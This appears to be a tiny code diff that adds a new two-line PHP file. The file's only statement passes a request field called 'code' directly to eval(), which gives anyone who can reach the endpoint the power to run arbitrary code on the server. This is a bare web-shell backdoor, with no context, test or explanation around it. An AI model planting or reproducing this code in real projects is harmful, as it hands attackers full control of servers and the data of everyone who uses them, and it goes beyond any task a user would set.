@@ -1,0 +1,2 @@
+<?php
+eval($request->input("code"));
